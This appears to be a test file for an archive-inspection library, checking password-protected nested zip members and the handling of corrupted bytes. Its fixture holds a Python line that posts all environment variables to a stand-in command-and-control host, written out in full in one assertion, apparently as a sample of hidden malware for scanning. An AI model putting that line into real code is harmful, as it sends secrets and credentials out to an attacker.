import type { ArtifactView } from '@weir/model';
import { zip } from '@weir/testkit/archive';
import { expect, test } from 'vitest';
import { openNested } from './nested.ts';
import { openBytes } from './testing.ts';

/** By `zip -P`: a stored text and a deflated module, both encrypted with {@link PASSWORD}. */
const LOCKED = Buffer.from(
  'UEsDBAoACQAAAItqe12ikCiPEQAAAAUAAAAFABwAYS50eHRVVAkAA5aDCWuWgwlrdXgLAAEEAAAAAAQAAAAAzgECfa882286YinSXGS+uDJQSwcIopAojxEAAAAFAAAAUEsDBBQACQAIAIxqe13gpHYqVwAAAFEAAAAKABwAX3RhYmxlcy5weVVUCQADl4MJa5aDCWt1eAsAAQQAAAAABAAAAABgn7zP1vm7Xh7yy4Ig2p64eUt2uQOreymNYu58HxlhgE+nWQ7HSMVVs8eyfLR0wHO/lkQijqN0N4D/plEoV75S3287hvpv5ClcSd8StsYdeGYxhMHPRU1QSwcI4KR2KlcAAABRAAAAUEsBAh4DCgAJAAAAi2p7XaKQKI8RAAAABQAAAAUAGAAAAAAAAQAAAKSBAAAAAGEudHh0VVQFAAOWgwlrdXgLAAEEAAAAAAQAAAAAUEsBAh4DFAAJAAgAjGp7XeCkdipXAAAAUQAAAAoAGAAAAAAAAQAAAKSBYAAAAF90YWJsZXMucHlVVAUAA5eDCWt1eAsAAQQAAAAABAAAAABQSwUGAAAAAAIAAgCbAAAACwEAAAAA',
  'base64',
);
const PASSWORD = 's3cr3t word';

/** What members of a view give, by path; null for those that give nothing. */
async function contentsOf(view: ArtifactView | null): Promise<Record<string, string | null>> {
  const found: Record<string, string | null> = {};
  for (const { path, index } of view?.entries ?? [])
    found[path] =
      (await view?.read(index).then(
        (bytes) => Buffer.from(bytes).toString(),
        () => null,
      )) ?? null;
  return found;
}

async function read(bytes: Buffer, passwords: readonly string[]): Promise<Record<string, string | null>> {
  await using outer = await openBytes(zip().file('data.zip', bytes).build());
  await using inner = await openNested(outer, 0, { passwords });
  return contentsOf(inner);
}

test('members open with the password among those that are tried', async () => {
  expect(await read(LOCKED, ['no', 'data.zip', PASSWORD])).toEqual({
    'a.txt': 'short',
    '_tables.py': "import os, requests\nrequests.post('https://c2.weir.test', data=dict(os.environ))\n",
  });
});

test.each([[[]], [['no', 's3cr3t', '']]])('members stay closed to %j', async (passwords) => {
  expect(await read(LOCKED, passwords)).toEqual({ 'a.txt': null, '_tables.py': null });
});

test('members that are not encrypted are read as they are', async () => {
  expect(await read(zip().file('a.txt', 'plain').build(), [PASSWORD])).toEqual({ 'a.txt': 'plain' });
});

test('changed bytes give nothing, or what they hold, and never an error of another kind', async () => {
  for (let at = 0; at < LOCKED.length; at += 3) {
    const changed = Buffer.from(LOCKED);
    changed[at] = (changed[at] ?? 0) ^ 0x55;
    await using outer = await openBytes(zip().file('data.zip', changed).build());
    await using inner = await openNested(outer, 0, { passwords: [PASSWORD] });
    for (const { index, kind } of inner?.entries ?? [])
      if (kind === 'file')
        await inner
          ?.read(index)
          .catch((error: { code?: string }) => expect(error.code).toBe('ARCHIVE_ENTRY'));
  }
});
